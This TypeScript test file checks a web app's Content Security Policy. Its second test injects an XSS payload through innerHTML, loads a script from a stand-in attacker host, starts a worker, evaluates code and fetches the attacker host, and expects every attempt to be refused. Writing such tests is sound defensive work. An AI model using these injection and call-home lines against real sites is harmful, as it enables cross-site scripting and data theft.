import { screens } from "./screens.ts"
import { expect, test } from "./support.ts"

// Offline caching runs under the policy too.
test.use({ serviceWorkers: "allow" })

for (const screen of screens()) {
  test(`${screen} breaks no rule of the content policy and logs no error`, async ({ page }) => {
    const complaints: string[] = []
    page.on("console", (message) => message.type() === "error" && complaints.push(message.text()))
    page.on("pageerror", (error) => complaints.push(error.message))
    await page.exposeFunction("noteViolation", (violation: string) => complaints.push(violation))
    await page.addInitScript(() => {
      const note = (globalThis as unknown as { noteViolation: (text: string) => void }).noteViolation
      addEventListener("securitypolicyviolation", (event) => note(`${event.violatedDirective}: ${event.blockedURI}`))
    })
    await page.goto(screen)
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
    await page.waitForLoadState("networkidle")
    expect(complaints).toEqual([])
  })
}

test("a script that got into the page cannot run, start a worker or call home", async ({ page }) => {
  await page.goto("/")
  const outcomes = await page.evaluate(async () => {
    // The debugger's own call allows eval; a timer gets us out of it.
    await new Promise((resolve) => setTimeout(resolve))
    const attempt = async (action: () => unknown) => {
      try {
        await action()
        return "worked"
      } catch {
        return "refused"
      }
    }
    const script = document.createElement("script")
    return {
      html: await attempt(() => (document.body.innerHTML = "<img src=x onerror=alert(1)>")),
      address: await attempt(() => (script.src = "https://evil.example/x.js")),
      worker: await attempt(() => new Worker("/sw.js")),
      // oxlint-disable-next-line typescript/no-implied-eval -- it is the point
      eval: await attempt(() => new Function("return 1")()),
      fetch: await attempt(() => fetch("https://evil.example/", { mode: "no-cors" })),
    }
  })
  expect(outcomes).toEqual({
    html: "refused",
    address: "refused",
    worker: "refused",
    eval: "refused",
    fetch: "refused",
  })
})
